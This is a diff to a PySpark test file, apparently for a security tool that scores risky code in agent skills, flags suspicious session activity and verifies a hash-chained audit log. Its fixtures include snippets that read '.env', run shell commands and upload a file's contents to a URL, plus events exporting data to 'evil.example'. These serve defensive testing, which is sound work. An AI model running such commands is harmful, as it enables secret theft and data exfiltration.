@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import hashlib
 import json
 import zipfile
 from datetime import datetime, timedelta
@@ -160,13 +161,14 @@ def test_largest_group_of_sets(spark, sets):
 
 def test_skills(spark):
     sources = {
-        "alias": "from subprocess import run as r\nr('x', shell=True)", "import_only": "import os, socket", "log": "open('/var/log/x.log', 'a')", "secret": "open('.env')", "leak": "import requests as q\nd = open('a.txt').read()\nq.put('https://x', data=d)",
+        "alias": "from subprocess import run as r\nr('x', shell=True)", "import_only": "import os, socket", "log": "open('/var/log/x.log', 'a')", "logger": "open('logger.txt', mode='w')", "in_log": "open('/var/log/x.py', 'w')", "tokenizer": "open('tokenizer.json')", "secret": "open('.env')", "leak": "import requests as q\nd = open('a.txt').read()\nq.put('https://x', data=d)",
         "broken": "def f(:\n os.system('x')", "comment": "# eval(1)\nprint('eval')", "null": None,
     }
     df = spark.createDataFrame(list(sources.items()), "name string, source string")
     got = {r.name: r for r in skills.skill_verdicts(df).collect()}
     assert got["alias"].calls == ["subprocess", "subprocess_shell"] and got["alias"].decision == "block" and got["alias"].total_weight == 24
     assert got["import_only"].calls == got["log"].calls == got["comment"].calls == got["null"].calls == []
+    assert got["logger"].calls == [] and got["in_log"].calls == got["tokenizer"].calls == ["open"]
     assert got["secret"].calls == ["open_sensitive"] and got["secret"].total_weight == 9 and got["secret"].decision == "review"
     assert set(got["leak"].calls) == {"open", "requests.post"} and got["leak"].total_weight == 12 and "os.system" in got["broken"].calls
 
@@ -217,7 +219,7 @@ SESSION = "session_id string, principal_id string, event_id long, ts timestamp,
 
 def session_rows():
     t = datetime(2026, 1, 1)
-    one = [("s", "p", i, t + timedelta(minutes=i), text, name, op, cls, dest) for i, (text, name, op, cls, dest) in enumerate([("hi", "file_read", "read", "sensitive", None), ("go", "http_post", "export", "public", "https://evil.example"), ("password", "file_read", "read", "public", None), ("x", "file_write", "create", "public", "https://evil.example"), ("x", "file_write", "update", "public", None), *[("x", "file_read", "search", "public", None)] * 3, ("x", "file_read", "delete", "public", "https://a.gov.cn")])]
+    one = [("s", "p", i, t + timedelta(minutes=i), text, name, op, cls, dest) for i, (text, name, op, cls, dest) in enumerate([("hi", "file_read", "read", "sensitive", None), ("go", "http_post", "export", "public", "https://evil.example"), ("密码", "file_read", "read", "public", None), ("x", "file_write", "create", "public", "https://evil.example"), ("x", "file_write", "update", "public", None), *[("x", "file_read", "search", "public", None)] * 3, ("x", "file_read", "delete", "public", "https://a.gov.cn")])]
     return one + [("u", "p", 100 + i, t + timedelta(minutes=i), None, "file_write", "update", "secret", None) for i in range(3)]
 
 
@@ -256,15 +258,35 @@ def test_ids_and_limits(spark):
 
 
 def test_audit_chain(spark, tmp_path):
-    rows = spark.createDataFrame([(i % 2, i, f"t{i}", f"r{i}") for i in range(11)], "day int, n long, at string, rec string")
+    rows = spark.createDataFrame([(i % 2, i, f"t{i}", json.dumps({"b": f"r{i}|x", "a": i, "token": "abc"})) for i in range(11)], "day int, n long, at string, rec string")
     chain = audit.build_chain(rows, "day", ("n",), "at", "rec")
     assert all(r.valid for r in audit.verify_chain(chain, "day").collect())
-    for bad, at in ((chain.withColumn("record", F.when(F.col("sequence") == 2, "x").otherwise(F.col("record"))), 2), (chain.where("sequence <> 1"), 2), (chain.withColumn("previous_hash", F.when(F.col("sequence") == 3, audit.START).otherwise(F.col("previous_hash"))), 3)):
+    first = chain.where("day = 1 AND sequence = 1").first()
+    payload = json.dumps({"sequence": 1, "timestamp": "t1", "record": {"a": 1, "b": "r1|x", "token": "[REDACTED]"}}, sort_keys=True, separators=(",", ":"))
+    assert first.entry_hash == hashlib.sha256((audit.START + payload).encode()).hexdigest() and first.previous_hash == audit.START
+    moved = chain.withColumn("timestamp", F.concat("timestamp", F.lit("|"))).withColumn("record", F.replace("record", F.lit("|x"), F.lit("x")))
+    changed = chain.withColumn("record", F.when(F.col("sequence") == 2, "{}").otherwise(F.col("record")))
+    for bad, at in ((changed, 2), (chain.where("sequence <> 1"), 2), (chain.withColumn("previous_hash", F.when(F.col("sequence") == 3, audit.START).otherwise(F.col("previous_hash"))), 3), (moved, 1)):
         assert {r.first_break for r in audit.verify_chain(bad, "day").collect()} == {at}
-    sinks.append_chain(rows, str(tmp_path / "log"), "day", ("n",), "at", "rec")
-    with pytest.raises(ValueError):
-        sinks.append_chain(rows, str(tmp_path / "log"), "day", ("n",), "at", "rec")
-    assert audit.tail(chain.where("day = 0"), 2).collect()[0].sequence == 5
+    log = str(tmp_path / "log")
+    sinks.append_chain(rows.where("n < 5"), log, "day", ("n",), "at", "rec")
+    sinks.append_chain(rows.where("n >= 5").union(spark.createDataFrame([(7, 1, "t", "{}")], rows.schema)), log, "day", ("n",), "at", "rec")
+    held = spark.read.json(log)
+    assert {(r.day, r.entries, r.valid) for r in audit.verify_chain(held, "day").collect()} == {(0, 6, True), (1, 5, True), (7, 1, True)}
+    assert {(r.day, r.sequence, r.entry_hash) for r in held.where("day < 7").collect()} == {(r.day, r.sequence, r.entry_hash) for r in chain.collect()}
+    assert audit.tail(chain.where("day = 0"), 2).collect()[0].sequence == 6
+    with pytest.raises(Exception, match="must be an object"):
+        audit.build_chain(spark.createDataFrame([(1, 1, "t", "[1]")], rows.schema), "day", ("n",), "at", "rec").collect()
+
+
+def test_streamed_chain_goes_on(spark, tmp_path):
+    rows = spark.createDataFrame([(i % 2, i, f"t{i}", json.dumps({"a": i})) for i in range(8)], "day int, n long, at string, rec string")
+    write = sinks.chain_writer(str(tmp_path / "log"), "day", ("n",), "at", "rec")
+    for k, (a, b) in enumerate(((0, 3), (3, 6), (6, 8))):
+        write(rows.where(f"n >= {a} AND n < {b}"), k)
+    write(rows.where("n >= 6"), 2)  # a batch that is run again
+    held = spark.read.json(str(tmp_path / "log"))
+    assert {(r.day, r.entries, r.valid) for r in audit.verify_chain(held, "day").collect()} == {(0, 4, True), (1, 4, True)}
 
 
 def approval_events(spark):
